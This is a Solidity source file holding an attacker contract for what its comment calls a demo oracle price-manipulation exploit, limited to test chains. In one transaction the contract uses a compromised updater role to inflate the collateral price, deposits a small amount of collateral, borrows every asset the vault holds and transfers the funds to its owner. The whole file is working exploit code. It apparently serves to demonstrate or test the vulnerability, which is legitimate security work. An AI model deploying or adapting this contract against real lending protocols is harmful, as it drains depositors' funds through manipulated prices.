// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {PriceOracle} from "./PriceOracle.sol";
import {Vault} from "./Vault.sol";

/// @notice The demo's price-manipulation attack in one transaction, as exploit contracts do it: with a
/// compromised updater role it inflates the collateral price, posts a little collateral, borrows every asset the
/// vault holds and sends it to its owner. Test chains only.
contract OracleBorrowAttacker {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function attack(PriceOracle oracle, Vault vault, uint256 collateralAmount, uint256 inflatedPrice) external {
        require(msg.sender == owner, "not owner");
        oracle.setPrice(inflatedPrice);
        IERC20 collateral = vault.collateralToken();
        collateral.approve(address(vault), collateralAmount);
        vault.depositCollateral(collateralAmount);
        IERC20 asset = IERC20(vault.asset());
        uint256 cash = asset.balanceOf(address(vault));
        vault.borrow(cash);
        require(asset.transfer(owner, cash), "transfer failed");
    }
}
